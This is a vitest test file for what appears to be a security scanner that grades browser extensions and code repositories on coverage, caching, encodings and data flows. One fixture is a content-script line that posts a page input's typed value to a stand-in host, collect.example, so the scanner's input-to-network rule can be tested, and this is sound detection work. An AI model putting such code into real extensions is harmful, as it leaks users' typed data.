import { describe, expect, it, vi } from 'vitest';
import { GRADES } from '../model/grade.ts';
import { GERMAN } from '../texts/german/german.ts';
import { tell } from '../texts/tell.ts';
import { analyze } from './analyze.ts';
import type { FileFacts } from './facts.ts';
import { weightOf } from './facts/weightOf.ts';
import type { Rule } from './rule.ts';
import { EXTENSION_RULES } from './rules/extensionRules.ts';
import { memoryTree } from './sources/memory.ts';
import type { FileTree } from './source.ts';

const manifest = '{"manifest_version":3,"name":"x","version":"1","background":{"service_worker":"bg.js"}}';
const small = {
  'manifest.json': manifest,
  'bg.js': 'console.log(1)',
  'p.html': '<p>',
  'a.png': new Uint8Array([0x89, 0x50, 0x4e, 0x47, 1, 2]),
};

describe('analyze', () => {
  it('tells extensions from repositories', async () => {
    expect((await analyze(memoryTree(small))).kind).toBe('extension');
    expect((await analyze(memoryTree({ 'a.py': 'print(1)' }))).kind).toBe('repository');
    const target = { kind: 'repository', host: 'h', owner: 'o', name: 'n' } as const;
    expect((await analyze(memoryTree(small), { target })).kind).toBe('repository');
  });

  it('gives no good grade and denies nothing where a check failed', async () => {
    const whole = await analyze(memoryTree(small));
    expect(whole.score.grade).toBe('A+');
    expect(whole.details.executive_summary.sentences.join(' ')).toContain('No flow of private data');
    const [rule] = EXTENSION_RULES;
    using _broken = vi.spyOn(rule as Rule, 'check').mockImplementation(() => {
      throw new TypeError('a fault');
    });
    const { score, details } = await analyze(memoryTree(small));
    const { sentences, told, coverage } = details.executive_summary;
    expect(score.grade).toBe('C');
    expect(sentences.join(' ')).not.toContain('No flow of private data');
    expect(sentences).toContain(
      'Until that is fixed, the grade cannot be better than C, because not every check could be completed (1 failed).',
    );
    expect(told?.sentences.map((one) => tell(one, GERMAN)).join(' ')).toContain('(1 fehlgeschlagen)');
    expect(coverage.not_run.map((one) => one.rule)).toContain(rule?.id);
  });

  it('takes names that every object has for names', async () => {
    const names = ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf'];
    const packages = Object.fromEntries(
      names.map((name) => [`node_modules/${name}`, { version: '1.0.0', license: name }]),
    );
    const files: Record<string, string> = {
      'package-lock.json': JSON.stringify({ lockfileVersion: 3, packages }),
      'a.py': names.map((name) => `from ${name} import ${name}\n${name}.${name}(request.args["${name}"])`).join('\n'),
      'a.js': names
        .map((name) => `chrome.${name}.${name}(location.${name}); document.body["${name}"](fetch.${name});`)
        .join('\n'),
    };
    for (const name of names)
      files[`constructor/${name}`] = files[`constructor/x.${name}`] = `SPDX-License-Identifier: ${name}`;
    const analysis = await analyze(memoryTree(files));
    expect(JSON.stringify(analysis)).not.toMatch(/native code|null,null/);
    expect(analysis.coverage.failed).toBe(0);
    expect(analysis.details.license_summary?.counts).toMatchObject({
      hasOwnProperty: expect.any(Number),
      valueOf: expect.any(Number),
    });
  });

  it('names no folder of the machine that it runs on', async () => {
    const tree = memoryTree(small);
    const refused = Object.assign(new Error("EACCES: permission denied, open '/var/lib/touchstone/z.js'"), {
      code: 'EACCES',
      syscall: 'open',
    });
    const gone = new DOMException('A requested file could not be found at the time', 'NotFoundError');
    const { coverage } = await analyze({
      ...tree,
      files: [
        ...tree.files,
        ...[refused, gone].map((error, at) => ({ path: `z${at}.js`, size: 3, read: () => Promise.reject(error) })),
      ],
    });
    expect(coverage.notes).toEqual([
      { path: 'z0.js', note: 'it could not be opened' },
      { path: 'z1.js', note: 'it could not be opened' },
    ]);
  });

  it('counts a file that cannot be read and goes on', async () => {
    const tree = memoryTree(small);
    const broken: FileTree = {
      ...tree,
      files: [...tree.files, { path: 'z.js', size: 3, read: () => Promise.reject(new Error('disk on fire')) }],
    };
    const { coverage, score } = await analyze(broken);
    expect(coverage).toMatchObject({
      total: 5,
      analyzed: 4,
      failed: 1,
      notes: [{ path: 'z.js', note: 'disk on fire' }],
    });
    expect(score.caps.map((cap) => cap.rule)).toContain('coverage');
  });

  it("leaves a repository's tests out first where there is no room for all, and lowers no grade for that", async () => {
    const files: Record<string, string> = {};
    const text = (at: number): string =>
      Array.from({ length: 40 }, (_, n) => `export const a${n} = call(${at}, "${n}");`).join('\n');
    for (let at = 0; at < 20; at++) files[`cases/tests/t${at}.js`] = text(at);
    for (let at = 0; at < 5; at++) files[`src/s${at}.js`] = text(at);
    const whole = await analyze(memoryTree(files));
    const gathered: FileFacts[] = [];
    await analyze(memoryTree(files), { onFile: (facts) => gathered.push(facts) });
    const room = weightOf(gathered[0]?.facts ?? {}) * 8;
    const part = await analyze(memoryTree(files), { room });
    expect(part.coverage.partial).toBeGreaterThan(10);
    expect(part.coverage.notes.every(({ path }) => path.startsWith('cases/tests/'))).toBe(true);
    expect(part.score.grade).toBe(whole.score.grade);
  });

  it('counts what lies beyond the limits as skipped', async () => {
    const { coverage, details } = await analyze({ ...memoryTree(small), beyond: 40_000 });
    expect(coverage).toMatchObject({ total: 40_004, skipped: 40_000 });
    expect(details.executive_summary.coverage).toMatchObject({ total_files: 40_004, skipped_files: 40_000 });
  });

  it('compares with the scan before', async () => {
    const before = await analyze(memoryTree(small));
    const after = await analyze(memoryTree({ ...small, 'bg.js': 'console.log(2)', 'new.js': '1' }), {
      previous: { files: { ...before.files, 'gone.js': '00' } },
    });
    expect(after.changes).toEqual({ newFiles: 1, changedFiles: 1, removedFiles: 1, reusedFiles: 3 });
  });

  it('stops when asked to, with the reason', async () => {
    const controller = new AbortController();
    const stopped = analyze(memoryTree(small), {
      signal: controller.signal,
      onFile: () => controller.abort(new Error('enough')),
    });
    await expect(stopped).rejects.toThrow('enough');
  });

  it('takes facts from the cache by content, and gives the same answer', async () => {
    const kept = new Map<string, FileFacts>();
    const cache = {
      get: (key: string) => kept.get(key),
      put: (key: string, facts: FileFacts) => void kept.set(key, structuredClone(facts)),
    };
    const tree = memoryTree(small);
    let reads = 0;
    const identified: FileTree = {
      ...tree,
      files: tree.files.map((file) => ({ ...file, contentId: `id-${file.path}`, read: () => (reads++, file.read()) })),
    };
    const first = await analyze(identified, { cache, kind: 'extension' });
    const readFirst = reads;
    const second = await analyze(identified, { cache, kind: 'extension' });
    expect(reads).toBe(readFirst);
    expect(second.changes.reusedFiles).toBe(4);
    expect({ ...second, changes: first.changes }).toEqual(first);
  });

  it('reports as not run what needs an answer that did not come', async () => {
    const lock = {
      'package.json': '{"name":"a","dependencies":{"x":"1.0.0"}}',
      'package-lock.json': '{"lockfileVersion":3,"packages":{"node_modules/x":{"version":"1.0.0"}}}',
    };
    const failed = await analyze(memoryTree(lock), { external: () => Promise.reject(new Error('offline')) });
    expect(failed.notRun.some((one) => one.why.includes('vulnerabilities'))).toBe(true);
    const answered = await analyze(memoryTree(lock), { external: async () => ({ vulnerabilities: new Map() }) });
    expect(answered.notRun.some((one) => one.why.includes('vulnerabilities'))).toBe(false);
  });

  it('runs the sources of a folder where its manifest names what a build makes of them', async () => {
    const send =
      "document.querySelector('input').oninput = ({ target }) => fetch('https://collect.example/x', { method: 'POST', body: target.value });";
    const found = async (names: object, files: Record<string, string>) => {
      const described = { manifest_version: 3, name: 'x', version: '1', permissions: ['storage'], ...names };
      const texts = { ...files, 'manifest.json': JSON.stringify(described), 'package.json': '{}' };
      const { kind, findings } = await analyze({ ...memoryTree(texts), container: 'directory' });
      expect(kind).toBe('extension');
      return findings.filter(({ rule }) => rule === 'input-to-network').length;
    };
    const page = { 'src/popup/popup.html': '<input><script src="popup.js"></script>', 'src/popup/popup.js': send };
    const content = { content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'] }] };
    // Typed into the extension's own page, and into others.
    expect(
      await found({ action: { default_popup: 'popup.html' }, background: { service_worker: 'bg.js' } }, page),
    ).toBe(0);
    expect(await found(content, { 'src/content/index.ts': send })).toBe(1);
    expect(await found(content, { 'content.js': send })).toBe(1);
  });

  it('gives no good grade where data could not be followed to the end', async () => {
    const decoys = 'chrome.tabs.query({}, (t) => fetch("/shown?" + t[0].title));'.repeat(3000);
    const own = (script: string) =>
      analyze(
        memoryTree({
          'manifest.json':
            '{"manifest_version":3,"name":"Own","version":"1","permissions":["tabs"],"background":{"service_worker":"b.js"}}',
          'b.js': `console.log(1);\n${script}`,
        }),
      );
    const plain = await own('');
    const flooded = await own(decoys);
    expect(GRADES.indexOf(plain.score.grade)).toBeLessThan(GRADES.indexOf('C'));
    expect(flooded.notRun.map(({ what }) => what)).toContain('All data flows');
    expect(flooded.score.grade).toBe('C');
    expect(flooded.score.caps[0]?.reason).toContain('could not be followed');
  });

  it('reads and hashes each file once', async () => {
    const tree = memoryTree({ ...small, 'big.txt': 'x'.repeat(100_000) });
    const reads: string[] = [];
    let hashed = 0;
    await analyze(
      { ...tree, files: tree.files.map((file) => ({ ...file, read: () => (reads.push(file.path), file.read()) })) },
      { kind: 'extension', hash: () => `hash ${hashed++}` },
    );
    expect(reads.toSorted()).toEqual(tree.files.map((file) => file.path).toSorted());
    expect(hashed).toBe(tree.files.length);
  });

  it('does not depend on the order of files', async () => {
    const files = { ...small, 'b.js': 'eval(x)', 'q.html': '<script src="a.txt"></script>', 'a.txt': 'eval(y)' };
    const reversed = Object.fromEntries(Object.entries(files).reverse());
    expect(await analyze(memoryTree(reversed), { kind: 'extension' })).toEqual(
      await analyze(memoryTree(files), { kind: 'extension' }),
    );
  });

  it('follows a script under another name, whoever is read first', async () => {
    const files = {
      'manifest.json': manifest,
      'bg.js': 'importScripts("data.txt")',
      'data.txt': 'importScripts("more.bin")',
      'more.bin': 'run()',
    };
    const { findings } = await analyze(memoryTree(files));
    const paths = findings
      .filter((finding) => finding.rule === 'script-under-other-name')
      .map((finding) => finding.place.path);
    expect(paths).toEqual(['data.txt', 'more.bin']);
  });

  it('reads texts of every encoding', async () => {
    const text = '{"manifest_version":3,"name":"Ünï","version":"1"}';
    const utf16 = new Uint8Array(2 + text.length * 2);
    utf16.set([0xff, 0xfe]);
    for (let i = 0; i < text.length; i++) new DataView(utf16.buffer).setUint16(2 + i * 2, text.charCodeAt(i), true);
    const encodings = {
      marked: new TextEncoder().encode(`\ufeff${text}`),
      utf16,
      unmarked: utf16.slice(2),
      latin1: Uint8Array.from(text, (letter) => letter.charCodeAt(0)),
    };
    for (const [name, bytes] of Object.entries(encodings))
      expect((await analyze(memoryTree({ 'manifest.json': bytes }), { kind: 'extension' })).name, name).toBe('Ünï');
  });
});
